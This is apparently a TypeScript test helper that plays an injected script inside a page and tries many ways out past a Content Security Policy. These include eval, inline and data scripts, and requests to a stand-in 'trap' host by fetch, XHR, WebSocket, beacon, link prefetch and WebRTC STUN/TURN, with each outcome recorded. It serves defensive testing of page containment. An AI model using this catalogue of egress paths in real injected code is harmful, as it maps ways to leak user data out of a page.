/**
 * What a script that got into a page would try. Runs there, so it stands alone: nothing of this file's surroundings is there.
 * Answers how each try ended; what the policy refused is named in `violated`. `byTcp`: also a peer connection over TCP.
 */
export async function breakOut({
  trap,
  byTcp,
}: {
  readonly trap: string;
  readonly byTcp: boolean;
}): Promise<{ readonly ended: Readonly<Record<string, string>>; readonly violated: readonly string[] }> {
  const ended: Record<string, string> = {};
  const violated: string[] = [];
  const world = window as unknown as Record<string, unknown>;
  document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    const limit = new Promise((resolve) => setTimeout(() => resolve('no answer'), 1_500));
    // What Playwright runs is above the policy, what comes later is not.
    const later = new Promise((resolve) => setTimeout(resolve)).then(run);
    ended[name] = await Promise.race([later, limit]).then(String, (cause: unknown) =>
      cause instanceof Error || cause instanceof DOMException ? cause.name : 'refused',
    );
  };
  const put = <T extends keyof HTMLElementTagNameMap>(tag: T, change: (element: HTMLElementTagNameMap[T]) => void): Promise<string> =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.addEventListener('load', () => resolve('loaded'));
      element.addEventListener('error', () => resolve('refused'));
      change(element);
      document.body.append(element);
    });

  // oxlint-disable-next-line no-eval
  await attempt('eval', () => (0, eval)('"ran"'));
  // oxlint-disable-next-line typescript/no-implied-eval
  await attempt('Function', () => (new Function('return "ran"') as () => unknown)());
  await attempt('inline script', () => {
    void put('script', (script) => void (script.textContent = 'window.ranInline = true'));
    return world['ranInline'] === true ? 'ran' : 'refused';
  });
  await attempt('handler attribute', () => {
    const element = document.createElement('i');
    element.setAttribute('onclick', 'window.ranHandler = true');
    element.click();
    return world['ranHandler'] === true ? 'ran' : 'refused';
  });
  await attempt('foreign script', () => put('script', (script) => void (script.src = `http://${trap}/script`)));
  await attempt('data script', () => put('script', (script) => void (script.src = 'data:text/javascript,window.ranData=true')));
  await attempt('import', () => import(/* @vite-ignore */ `http://${trap}/import`));
  await attempt('inline style', () => {
    const element = document.createElement('p');
    element.setAttribute('style', `background: url(http://${trap}/style)`);
    document.body.append(element);
    return getComputedStyle(element).backgroundImage.includes('url') ? 'ran' : 'refused';
  });
  await attempt('style sheet', () => put('link', (link) => Object.assign(link, { rel: 'stylesheet', href: `http://${trap}/css` })));
  await attempt('image', () => put('img', (image) => void (image.src = `http://${trap}/image`)));
  await attempt('audio', () => put('audio', (audio) => void (audio.src = `http://${trap}/audio`)));
  await attempt('object', () => put('object', (object) => void (object.data = `http://${trap}/object`)));
  void put('iframe', (frame) => void (frame.src = `http://${trap}/frame`));
  void put('iframe', (frame) => void (frame.src = 'app://latchkey/index.html'));
  await attempt('font', () => new FontFace('x', `url(http://${trap}/font)`).load());
  await attempt('fetch', () => fetch(`http://${trap}/fetch`).then(() => 'fetched'));
  await attempt(
    'XMLHttpRequest',
    () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('fetched');
        request.onerror = () => resolve('refused');
        request.open('GET', `http://${trap}/xhr`);
        request.send();
      }),
  );
  await attempt(
    'WebSocket',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${trap}/ws`);
        socket.onopen = () => resolve('opened');
        socket.onerror = () => resolve('refused');
      }),
  );
  await attempt(
    'EventSource',
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`http://${trap}/events`);
        source.onopen = () => resolve('opened');
        source.onerror = () => resolve('refused');
      }),
  );
  await attempt('beacon', () => (navigator.sendBeacon(`http://${trap}/beacon`), 'refused'));
  await attempt(
    'worker',
    () =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'], { type: 'text/javascript' })));
        worker.onmessage = () => resolve('ran');
        worker.onerror = () => resolve('refused');
      }),
  );
  await attempt('service worker', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'));
  for (const rel of ['preconnect', 'prefetch', 'dns-prefetch', 'preload', 'modulepreload', 'prerender'])
    void put('link', (link) => Object.assign(link, { rel, href: `http://${trap}/${rel}`, as: 'fetch' }));
  await attempt('peer connection', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${trap}` }, ...(byTcp ? [{ urls: `turn:${trap}?transport=tcp`, username: 'x', credential: 'x' }] : [])],
    });
    peer.createDataChannel('x');
    const gathered = new Promise((resolve) =>
      peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && resolve('gathered')),
    );
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
    const found = peer.localDescription?.sdp.includes('candidate') === true ? 'found ways out' : 'refused';
    peer.close();
    return found;
  });
  return { ended, violated };
}
